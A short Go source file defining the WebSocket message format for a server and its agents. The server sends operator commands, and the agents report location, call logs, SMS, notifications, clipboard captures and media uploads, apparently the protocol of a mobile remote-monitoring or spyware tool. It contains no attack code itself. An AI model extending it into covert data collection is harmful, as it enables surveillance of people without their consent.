package ws

import (
	"encoding/json"
	"time"
)

// Message is the shared WebSocket message shape used by the server and agents.
type Message struct {
	Type      string                 `json:"type"`
	Data      map[string]interface{} `json:"data,omitempty"`
	Timestamp time.Time              `json:"timestamp,omitempty"`
}

// Marshal marshals the message to JSON bytes, stamping the time if unset.
func (m *Message) Marshal() ([]byte, error) {
	if m.Timestamp.IsZero() {
		m.Timestamp = time.Now()
	}
	return json.Marshal(m)
}

// Standard message type constants used between server and agents.
const (
	// Server-to-agent
	MessageTypeCommand = "command" // carries an operator command payload
	MessageTypePong    = "pong"
	MessageTypeError   = "error"

	// Agent-to-server
	MessageTypeHeartbeat    = "heartbeat"
	MessageTypeUpload       = "upload"       // inline media upload
	MessageTypeLocation     = "location"     // location sample
	MessageTypeCall         = "call"         // call log entry
	MessageTypeSMS          = "sms"          // SMS entry
	MessageTypeNotification = "notification" // notification log entry
	MessageTypeClipboard    = "clipboard"    // clipboard capture
	MessageTypeSnapshot     = "snapshot"     // full replacement of a snapshot section
)
